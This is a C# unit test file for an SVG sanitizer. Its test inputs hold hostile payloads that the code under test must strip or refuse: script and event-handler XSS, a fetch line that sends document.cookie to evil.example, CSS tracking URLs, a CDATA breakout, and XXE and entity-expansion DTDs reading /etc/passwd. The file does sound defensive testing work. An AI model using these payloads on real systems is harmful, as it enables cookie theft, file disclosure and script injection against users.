using System.Text;
using System.Xml.Linq;
using Communique.Assets.Storage;

namespace Communique.Tests.Assets.Storage;

public sealed class SvgSanitizerTests
{
    private static readonly XNamespace Svg = SvgSanitizer.SvgNamespace;
    private static readonly XNamespace XLink = "http://www.w3.org/1999/xlink";

    private static async Task<SvgSanitization> SanitizeAsync(string svg, long maxCharacters = 1_000_000)
    {
        using var input = new MemoryStream(Encoding.UTF8.GetBytes(svg));
        return await SvgSanitizer.SanitizeAsync(input, maxCharacters, TestContext.Current.CancellationToken);
    }

    private static async Task<(XDocument Document, string Text, IReadOnlyList<string> Removed)> SanitisedAsync(
        string svg)
    {
        var result = await SanitizeAsync(svg);
        Assert.True(result.Accepted, result.Refusal);
        var text = Encoding.UTF8.GetString(result.Svg);
        return (XDocument.Parse(text), text, result.Removed);
    }

    private static async Task<string> RefusalAsync(string svg, long maxCharacters = 1_000_000)
    {
        var result = await SanitizeAsync(svg, maxCharacters);
        Assert.False(result.Accepted);
        Assert.Null(result.Svg);
        return result.Refusal;
    }

    [Fact]
    public async Task A_clean_drawing_comes_through_whole()
    {
        const string svg = """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100">
              <title>Logo</title>
              <defs>
                <linearGradient id="g"><stop offset="0" stop-color="#05f"/><stop offset="1" stop-color="#fc0"/></linearGradient>
                <style><![CDATA[ .mark { fill: url(#g); font-family: "Inter", sans-serif; } ]]></style>
              </defs>
              <rect class="mark" width="100" height="100" style="stroke: url('#g'); stroke-width: 2"/>
              <use xlink:href="#g" href="#g"/>
              <image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>
              <a href="#top"><text x="10" y="50">Acme &amp; Co</text></a>
            </svg>
            """;

        var (document, _, removed) = await SanitisedAsync(svg);

        Assert.Empty(removed);
        Assert.Equal(
            XDocument.Parse(svg).Descendants().Select(e => e.Name),
            document.Descendants().Select(e => e.Name));
        Assert.Contains("fill: url(#g)", document.Descendants(Svg + "style").Single().Value, StringComparison.Ordinal);
        Assert.Equal("#g", document.Descendants(Svg + "use").Single().Attribute(XLink + "href")?.Value);
        Assert.Equal("Acme & Co", document.Descendants(Svg + "text").Single().Value);
    }

    [Fact]
    public async Task An_svg_with_a_script_an_onload_handler_and_a_javascript_link_is_sanitised()
    {
        const string svg = """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" viewBox="0 0 10 10">
              <script type="text/javascript">alert(document.cookie)</script>
              <script><![CDATA[ fetch('https://evil.example/?' + document.cookie) ]]></script>
              <a href="javascript:alert(2)"><rect width="5" height="5" onclick="alert(3)" OnMouseOver="alert(4)"/></a>
              <a xlink:href=" &#106;avascript&#x3A;alert(5)"><circle r="2"/></a>
              <set attributeName="href" to="javascript:alert(6)"/>
              <animate attributeName="onclick" to="alert(7)"/>
            </svg>
            """;

        var (document, text, removed) = await SanitisedAsync(svg);

        Assert.DoesNotContain("alert", text, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript", text, StringComparison.OrdinalIgnoreCase);
        Assert.Empty(document.Descendants(Svg + "script"));
        Assert.DoesNotContain(
            document.Descendants().Attributes(),
            a => a.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase));
        Assert.Single(document.Descendants(Svg + "rect"));
        Assert.Single(document.Descendants(Svg + "circle"));
        Assert.Equal(2, document.Descendants(Svg + "a").Count());
        Assert.Contains("<script>", removed);
        Assert.Contains("onload event handler", removed);
        Assert.Contains("href=\"javascript:alert(2)\"", removed);
        Assert.Contains("<set> animating href", removed);
    }

    [Fact]
    public async Task External_references_are_removed_and_same_document_ones_stay()
    {
        const string svg = """
            <?xml-stylesheet href="https://evil.example/theme.css" type="text/css"?>
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
              <style>@import url("https://evil.example/a.css"); rect { fill: red }</style>
              <style>rect { background: url(https://evil.example/track.png) }</style>
              <style>rect { background: image-set("https://evil.example/b.png" 1x) }</style>
              <style>rect { fill: \75 rl(https://evil.example/c) }</style>
              <style>circle { fill: blue }</style>
              <image id="remote" href="https://evil.example/pixel.png" width="1" height="1"/>
              <image id="relative" xlink:href="../secret.png" width="1" height="1"/>
              <image id="svg-data" href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="1" height="1"/>
              <image id="html-data" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" width="1" height="1"/>
              <image id="raster-data" href="data:image/webp;base64,UklGRg==" width="1" height="1"/>
              <use id="other-file" href="sprites.svg#icon"/>
              <use id="fragment" href="#icon"/>
              <rect id="fill" fill="url(http://evil.example/#grad)" stroke="url(#grad)"/>
              <rect id="styled" style="fill: url( 'https://evil.example/x' )"/>
              <rect id="commented" style="fill: url(/**/'https://evil.example/y')"/>
              <rect id="src" src="https://evil.example/z"/>
              <g id="based" xml:base="https://evil.example/"/>
            </svg>
            """;

        var (document, text, removed) = await SanitisedAsync(svg);
        string? Href(string id) => document.Descendants().Single(e => (string?)e.Attribute("id") == id) is var e
            ? (string?)e.Attribute("href") ?? (string?)e.Attribute(XLink + "href")
            : null;

        Assert.DoesNotContain("evil.example", text, StringComparison.Ordinal);
        Assert.DoesNotContain("xml-stylesheet", text, StringComparison.Ordinal);
        Assert.Equal("circle { fill: blue }", document.Descendants(Svg + "style").Single().Value);
        Assert.Null(Href("remote"));
        Assert.Null(Href("relative"));
        Assert.Null(Href("svg-data"));
        Assert.Null(Href("html-data"));
        Assert.Null(Href("other-file"));
        Assert.Equal("data:image/webp;base64,UklGRg==", Href("raster-data"));
        Assert.Equal("#icon", Href("fragment"));
        var fill = document.Descendants().Single(e => (string?)e.Attribute("id") == "fill");
        Assert.Null(fill.Attribute("fill"));
        Assert.Equal("url(#grad)", (string?)fill.Attribute("stroke"));
        Assert.Contains("<style> with external references or unreadable CSS", removed);
        Assert.Contains("style attribute with external references or unreadable CSS", removed);
        Assert.Contains("xml:base attribute", removed);
    }

    [Fact]
    public async Task ForeignObject_and_elements_from_other_namespaces_go_with_everything_inside()
    {
        const string svg = """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:html="http://www.w3.org/1999/xhtml"
                 xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3">
              <foreignObject width="100" height="100">
                <html:iframe src="https://evil.example/"/>
                <rect width="1" height="1"/>
              </foreignObject>
              <html:script>alert(1)</html:script>
              <handler type="application/ecmascript">alert(2)</handler>
              <g inkscape:label="Layer 1"><path d="M0 0L10 10"/></g>
            </svg>
            """;

        var (document, text, removed) = await SanitisedAsync(svg);

        Assert.DoesNotContain("alert", text, StringComparison.Ordinal);
        Assert.DoesNotContain("iframe", text, StringComparison.Ordinal);
        Assert.DoesNotContain("inkscape", text, StringComparison.Ordinal);
        Assert.Empty(document.Descendants(Svg + "rect"));
        Assert.Single(document.Descendants(Svg + "path"));
        Assert.Contains("<foreignObject>", removed);
        Assert.Contains("<html:script> (not an SVG element)", removed);
        Assert.Contains("<handler> (not an allowed SVG element)", removed);
    }

    [Fact]
    public async Task A_css_string_left_open_does_not_hide_what_follows_it()
    {
        const string svg = """
            <svg xmlns="http://www.w3.org/2000/svg"><style>text { content: "unclosed
            } rect { fill: url(https://evil.example/leak) }</style><rect style="font-family: 'x
            ; fill: url(https://evil.example/leak2)"/></svg>
            """;

        var (_, text, _) = await SanitisedAsync(svg);

        Assert.DoesNotContain("evil.example", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Animations_cannot_bring_back_what_was_removed()
    {
        const string svg = """
            <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
              <a><set attributeName="xlink:href" to="javascript:alert(1)"/><rect width="1" height="1"/></a>
              <rect><animate attributeName=" HREF " values="#a;javascript:alert(2)"/></rect>
              <rect><set attributeName="style" to="fill:url(https://evil.example/s)"/></rect>
              <rect><set attributeName="fill" to="url(https://evil.example/f)"/></rect>
              <rect><animate attributeName="fill" values="red; url(https://evil.example/v)"/></rect>
              <rect><set attributeName="fill" to="blue"/></rect>
            </svg>
            """;

        var (document, text, _) = await SanitisedAsync(svg);

        Assert.DoesNotContain("alert", text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", text, StringComparison.Ordinal);
        Assert.Equal("blue", document.Descendants(Svg + "set").Last().Attribute("to")?.Value);
    }

    [Fact]
    public async Task Character_data_comes_out_as_escaped_text()
    {
        const string svg = """<svg xmlns="http://www.w3.org/2000/svg">"""
            + """<text><![CDATA[</text><img src=x onerror=alert(1)>]]></text></svg>""";

        var (document, text, _) = await SanitisedAsync(svg);

        Assert.DoesNotContain("CDATA", text, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", text, StringComparison.Ordinal);
        Assert.Equal("</text><img src=x onerror=alert(1)>", document.Descendants(Svg + "text").Single().Value);
    }

    [Fact]
    public async Task Sanitising_twice_changes_nothing_the_second_time()
    {
        const string svg = """<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script>"""
            + """<circle r="1" fill="url(#a)"/></svg>""";
        var once = await SanitizeAsync(svg);

        var twice = await SanitizeAsync(Encoding.UTF8.GetString(once.Svg!));

        Assert.Equal(once.Svg, twice.Svg);
        Assert.Empty(twice.Removed);
    }

    [Fact]
    public async Task An_svg_with_an_entity_declaration_is_refused()
    {
        const string svg = """
            <?xml version="1.0"?>
            <!DOCTYPE svg [ <!ENTITY lol "lol"> <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"> ]>
            <svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>
            """;

        Assert.Equal(
            "the SVG declares a DTD (<!DOCTYPE> or <!ENTITY>), which is not accepted", await RefusalAsync(svg));
    }

    [Fact]
    public async Task An_svg_with_an_external_entity_is_refused()
    {
        const string svg = """
            <!DOCTYPE svg [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
            <svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>
            """;

        Assert.Contains("DTD", await RefusalAsync(svg), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Even_the_standard_SVG_doctype_is_refused()
    {
        const string svg = """
            <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
            <svg xmlns="http://www.w3.org/2000/svg"/>
            """;

        Assert.Contains("DTD", await RefusalAsync(svg), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>""")]
    [InlineData("""<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" width="2"/></svg>""")]
    [InlineData("""<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>""")]
    [InlineData("""<svg xmlns="http://www.w3.org/2000/svg"/><svg xmlns="http://www.w3.org/2000/svg"/>""")]
    [InlineData("")]
    [InlineData("not xml at all")]
    public async Task A_malformed_svg_is_refused(string svg)
    {
        Assert.StartsWith("the SVG is not well-formed XML: ", await RefusalAsync(svg), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bytes_that_are_not_valid_in_the_declared_encoding_are_refused()
    {
        using var input = new MemoryStream(
            [.. "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>caf"u8, 0xE9, .. "</text></svg>"u8]);

        var result = await SvgSanitizer.SanitizeAsync(input, 1000, TestContext.Current.CancellationToken);

        Assert.StartsWith("the SVG is not well-formed XML: ", result.Refusal, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_document_whose_root_is_not_svg_is_refused()
    {
        Assert.Equal(
            "the root element is <html>, not <svg>",
            await RefusalAsync(
                """<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"/></html>"""));
        Assert.StartsWith(
            "the root <svg> element is not in the SVG namespace", await RefusalAsync("<svg><rect/></svg>"),
            StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_svg_over_the_size_limit_is_refused()
    {
        var svg = $"""<svg xmlns="http://www.w3.org/2000/svg"><desc>{new string('x', 5000)}</desc></svg>""";

        Assert.Equal("the SVG is longer than 1000 characters", await RefusalAsync(svg, maxCharacters: 1000));
    }

    [Fact]
    public async Task An_svg_nested_too_deep_is_refused()
    {
        var depth = SvgSanitizer.MaxDepth + 10;
        var svg = $"""<svg xmlns="http://www.w3.org/2000/svg">{string.Concat(Enumerable.Repeat("<g>", depth))}"""
            + $"""{string.Concat(Enumerable.Repeat("</g>", depth))}</svg>""";

        Assert.Equal($"the SVG nests elements deeper than {SvgSanitizer.MaxDepth} levels", await RefusalAsync(svg));
    }
}
